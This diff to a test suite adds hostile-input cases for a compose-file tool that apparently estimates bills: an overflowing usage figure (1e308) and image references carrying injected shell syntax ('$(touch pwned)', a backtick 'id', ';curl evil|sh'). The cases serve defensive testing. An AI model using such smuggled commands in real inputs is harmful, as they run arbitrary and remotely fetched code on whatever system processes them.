@@ -692,6 +692,29 @@ CASES: list[BadInput] = [
         location="compose.yaml:2:3",
         absent="\x1b",
     ),
+    BadInput(
+        "usage file figures past the bill's arithmetic",
+        _files(
+            {
+                "compose.yaml": "services:\n  cache: {image: 'redis:7'}\n  api: {build: ., depends_on: [cache]}\n",
+                "Dockerfile": "FROM node:22\n",
+                "usage.yaml": "workers:\n  requests_per_month: 1e308\n  cpu_ms_per_request: 5\n",
+            }
+        ),
+        "workers.requests_per_month is not a figure a bill can use",
+        location="usage.yaml:2:3",
+        args=("--usage", "usage.yaml"),
+    ),
+    BadInput(
+        "image reference with shell syntax",
+        _text(
+            "services:\n  a: {image: 'a.b$(touch pwned)/x/y:1'}\n"
+            "  b: {image: 'ghcr.io/x/y:1@sha256:`id`'}\n  c: {image: 'ghcr.io/x/y:1;curl evil|sh'}\n"
+        ),
+        "is incomplete",
+        exit_code=0,
+        absent="docker pull --platform linux/amd64 ",  # no pasteable command carries the reference
+    ),
 ]
 
 # The classes of hostile input (issue 15) and the cases that stand for each.
@@ -735,6 +758,7 @@ CLASSES: dict[str, tuple[str, ...]] = {
     ),
     "numbers": (
         "mem_limit .inf",
+        "usage file figures past the bill's arithmetic",
         "memory limit .nan in deploy",
         "cpus .nan",
         "number .inf, strict",
@@ -747,6 +771,7 @@ CLASSES: dict[str, tuple[str, ...]] = {
     ),
     "escapes and deep rules": (
         "terminal escapes in an error",
+        "image reference with shell syntax",
         "Traefik rule nested 5,000 deep",
         "Traefik rule of 5,000 negations",
         "Traefik rule of 3,000 matchers",
